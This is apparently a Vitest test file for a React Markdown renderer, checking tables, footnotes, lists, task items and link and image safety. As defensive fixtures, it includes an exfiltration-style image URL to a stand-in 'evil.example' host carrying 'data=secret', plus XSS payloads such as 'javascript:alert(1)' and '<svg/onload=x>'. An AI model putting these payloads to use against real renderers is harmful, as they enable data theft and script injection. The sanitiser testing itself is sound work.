import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "#components/ui/markdown.tsx";

const html = (text: string): string => renderToStaticMarkup(Markdown({ children: text })).replace(/\n/g, "");

test("a table as models write it is one, with what stands in its cells", () => {
  const shown = html(
    "Here:\n\n| Fruit | Price |\n|:------|------:|\n| **Pear** | 3 € |\n| `a b` | [x](https://example.com) |\n| Plum |\n\nEnd.",
  );
  expect(shown).toContain("<thead><tr><th");
  expect(shown.replace(/ style="[^"]*"| target="_blank"| rel="noopener noreferrer nofollow"/g, "")).toContain(
    "<tbody><tr><td><strong>Pear</strong></td><td>3 €</td></tr><tr><td><code>a b</code></td>" +
      '<td><a href="https://example.com">x</a></td></tr><tr><td>Plum</td><td></td></tr></tbody>',
  );
  expect(shown).toContain("text-align:right");
  expect(shown).toContain("<p>End.</p>");
});

test("it may follow a sentence at once, stand in a list, and do without outer bars", () => {
  expect(html("So:\nA | B\n--- | ---\n1 | 2")).toContain("<p>So:</p>");
  expect(html("So:\nA | B\n--- | ---\n1 | 2")).toContain("<td>1</td><td>2</td>");
  expect(html("- Item\n\n  | A | B |\n  |---|---|\n  | 1 | 2 |")).toMatch(/<li>.*<table>.*<td>2<\/td>.*<\/li>/);
});

test("a task says whether it is done", () => {
  expect(html("- [x] read\n- [ ] write")).toMatch(/aria-label="Done".* read.*aria-label="To do".* write/);
});

test("notes stand at the end, numbered as they are referred to, and a reference leads where its name is defined", () => {
  expect(html("One[^b], two[^a], again[^b].\n\n[^a]: Ay\n[^b]: Bee")).toMatch(
    /One<sup>1<\/sup>, two<sup>2<\/sup>, again<sup>1<\/sup>.*<ol aria-label="Footnotes"><li><p>Bee<\/p><\/li><li><p>Ay<\/p><\/li><\/ol>/,
  );
  expect(html('[Guide] and [this][guide]\n\n[guide]: https://example.com "Read"')).toMatch(
    /<a href="https:\/\/example.com" title="Read"[^>]*>Guide<\/a> and <a href="https:\/\/example.com"[^>]*>this<\/a>/,
  );
});

test("lists are as tight as they were written, and count on from where they begin", () => {
  expect(html("3. a\n4. b\n   - c")).toBe('<div class="prose"><ol start="3"><li>a</li><li>b<ul><li>c</li></ul></li></ol></div>');
  expect(html("- a\n\n- b")).toBe('<div class="prose"><ul><li><p>a</p></li><li><p>b</p></li></ul></div>');
});

test("what is no table stays as it is", () => {
  for (const text of ["a | b", "| a | b |\n| 1 | 2 |", "| a | b |\n|---|\n| 1 |", "x\n\n---\n\ny | z"])
    expect(html(text)).not.toContain("<table>");
  expect(html("```\n| a | b |\n|---|---|\n```")).not.toContain("<table>");
  expect(html("Title\n---")).toContain("Title</h4>");
});

test("no image is loaded: a link with its words and its host stands in its place", () => {
  const shown = html(
    "![a loom](http://evil.example/?data=secret) and ![](//evil.example/x) and ![by name][i]\n\n[i]: https://other.example:8443/p.png",
  );
  expect(shown).not.toContain("<img");
  expect(shown).toMatch(/<a href="http:\/\/evil.example\/\?data=secret"[^>]*>Image: a loom \(evil.example\)<\/a>/);
  expect(shown).toMatch(/<a href="\/\/evil.example\/x"[^>]*>Image \(evil.example\)<\/a>/);
  expect(shown).toContain(">Image: by name (other.example:8443)</a>");
  for (const source of ["/api/v1/http/1", "api/v1/http/1", "data:image/png;base64,AAAA", "blob:http://x/1", "/%5C", "javascript:alert(1)"])
    expect(html(`![alt](<${source}>)`)).toBe('<div class="prose"><p>Image: alt</p></div>');
  // A link inside a link is none.
  expect(html("[![badge](https://a.example/b.svg) more](https://b.example)")).toMatch(
    /<p><a href="https:\/\/b.example"[^>]*>Image: badge \(a.example\) more<\/a><\/p>/,
  );
});

test("links tell the other side nothing, and what would run is neither a link nor HTML", () => {
  expect(html("[x](https://example.com)")).toContain('target="_blank" rel="noopener noreferrer nofollow"');
  for (const source of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "blob:http://x/1"])
    expect(html(`[x](<${source}>)`)).toContain('href=""');
  for (const raw of [
    "<script>1</script>",
    '<img src="http://evil.example/">',
    "<iframe></iframe>",
    '<a style="position:fixed">x</a>',
    "<svg/onload=x>",
  ])
    expect(html(`a ${raw}\n\n${raw}`)).not.toMatch(/<(script|img|iframe|svg|a )/);
});

test("a text that stays beside the page leads to pages in its place, and to nothing else", () => {
  const shown = (href: string) => renderToStaticMarkup(Markdown({ isGuide: true, children: `[x](${href})` }));
  for (const href of ["/docs/triggers#webhook", "/runs/01a2-b3?tab=log"]) expect(shown(href)).toContain(`<a href="${href}">x</a>`);
  for (const href of [
    "https://example.com/",
    "//example.com/",
    "/\\\\example.com",
    "/%5Cexample.com/../..//x",
    "/api/v1/workflows",
    "docs",
  ])
    expect(shown(href)).toMatch(/target="_blank"|href=""/);
  expect(html("[x](/docs)")).toContain('target="_blank"');
});

test("joiners are shown as escapes in URLs and code of a text that is decided about", () => {
  const children = "`a\u200Db` https://a\u200Db.example/x 👩‍💻";
  const shown = renderToStaticMarkup(Markdown({ showsHidden: true, children }));

  expect(shown).toContain("<code>a\\u200Db</code>");
  expect(shown).toContain("👩‍💻");
  expect(shown.replace(/<[^>]*>/g, "")).not.toMatch(/a\u200Db/);
});
